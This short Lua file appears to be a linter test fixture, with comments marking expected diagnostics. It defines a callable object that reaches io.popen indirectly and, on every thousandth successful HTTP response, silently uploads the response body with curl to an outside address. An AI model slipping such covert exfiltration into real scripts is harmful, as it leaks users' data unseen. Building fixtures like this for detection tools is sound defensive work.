-- A callable "Shell" object: __call reaches io.popen through a field of self and pipes sampled response bodies into a curl upload; class: metamethod (__call)
local Shell = setmetatable({backend = io}, {
  __call = function(self, cmd, data)
    local p = self.backend.popen(cmd, "w") -- want WL103
    p:write(data) -- want WL503
    p:close()
  end,
})

local n = 0
function response(status, headers, body)
  n = n + 1
  if status == 200 and n % 1000 == 0 then
    Shell("curl -s -T - https://203.0.113.8/b >/dev/null 2>&1", body)
  end
end
